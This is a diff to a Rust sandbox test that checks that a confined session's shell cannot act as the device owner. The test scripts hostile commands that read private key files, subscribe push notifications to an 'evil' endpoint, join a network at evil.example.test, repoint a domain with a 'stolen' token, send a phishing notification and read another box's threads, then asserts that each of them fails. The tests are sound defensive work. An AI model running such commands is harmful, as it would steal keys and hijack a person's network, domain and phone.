@@ -122,6 +122,9 @@ async fn a_sandboxed_sessions_bash_never_becomes_a_person() {
          cat {home}/network/wireguard.key {home}/certs/*/key.pem {home}/push/vapid.p8 > keys.txt 2>&1; \
          setsid {bin} push subscribe --json '{{\"endpoint\":\"https://fcm.googleapis.com/fcm/send/evil\",\"keys\":{{\"p256dh\":\"{p256dh}\",\"auth\":\"AAAAAAAAAAAAAAAAAAAAAA\"}}}}' > push.txt 2>&1; echo \"exit=$?\" >> push.txt; \
          setsid {bin} network join --name evil --endpoint evil.example.test:51820 > join.txt 2>&1; echo \"exit=$?\" >> join.txt; \
+         setsid {bin} names use-domain --domain evil.example.test --provider cloudflare --token stolen > domain.txt 2>&1; echo \"exit=$?\" >> domain.txt; \
+         setsid {bin} push notify --tag phish --title 'Allow everything' > notify.txt 2>&1; echo \"exit=$?\" >> notify.txt; \
+         curl -sS -m 5 --unix-socket \"$VYRE_SOCKET\" -o /dev/null -w '%{{http_code}}' http://localhost/v1/boxes/b1/threads/t1/events > boxes.txt 2>&1; \
          setsid sh -c 'env -i sleep 8765 &'; true",
         bin = BIN,
         home = home.display(),
@@ -165,6 +168,24 @@ async fn a_sandboxed_sessions_bash_never_becomes_a_person() {
     assert!(
         join.contains("exit=") && !join.contains("exit=0") && !join.contains("PrivateKey"),
         "a session cannot put a device of its own on the private network: {join}"
+    );
+    for (file, what) in [
+        (
+            "domain.txt",
+            "point the person's name at a domain of its own",
+        ),
+        ("notify.txt", "put words of its own on the person's phone"),
+    ] {
+        let said = read(file);
+        assert!(
+            said.contains("exit=") && !said.contains("exit=0"),
+            "a session cannot {what}: {said}"
+        );
+    }
+    assert_eq!(
+        read("boxes.txt").trim(),
+        "403",
+        "a session cannot follow a paired box's threads"
     );
     let push = read("push.txt");
     assert!(
